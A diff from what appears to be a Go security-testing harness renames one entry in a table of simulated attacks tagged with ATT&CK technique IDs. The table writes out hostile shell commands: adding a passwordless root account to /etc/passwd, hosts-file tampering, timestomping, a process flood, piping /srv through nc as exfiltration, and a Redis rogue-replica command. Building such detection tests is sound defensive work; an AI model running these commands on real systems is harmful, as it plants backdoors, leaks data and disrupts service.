@@ -56,7 +56,7 @@ var freshAttacks = []attack{
 	{name: "hosts-file", technique: "T1565.001", in: "worker", how: shell("echo 127.0.0.9 registry >>/etc/hosts")},
 	{name: "account", technique: "T1136.001", in: "worker", how: shell("echo x::0:0::/:/bin/sh >>/etc/passwd")},
 	{name: "timestomp", technique: "T1070.006", in: "worker", how: shell("touch -t 200001010000 /bin/worker")},
-	{name: "fork-bomb, small", technique: "T1499", in: "worker", how: shell("i=0; while [ $i -lt 300 ]; do /bin/true & i=$((i+1)); done; wait")},
+	{name: "fork-bomb", technique: "T1499", in: "worker", how: shell("i=0; while [ $i -lt 300 ]; do /bin/true & i=$((i+1)); done; wait")},
 	{name: "exfiltration", technique: "T1048", in: "worker", how: shell("tar -cf - /srv | nc -w 1 127.0.0.1 9999")},
 	{name: "rogue-master", technique: "T1190", in: "db", redis: "REPLICAOF 127.0.0.1 9999\r\nPING\r\n"},
 	{name: "module-drop", technique: "T1105", in: "db",
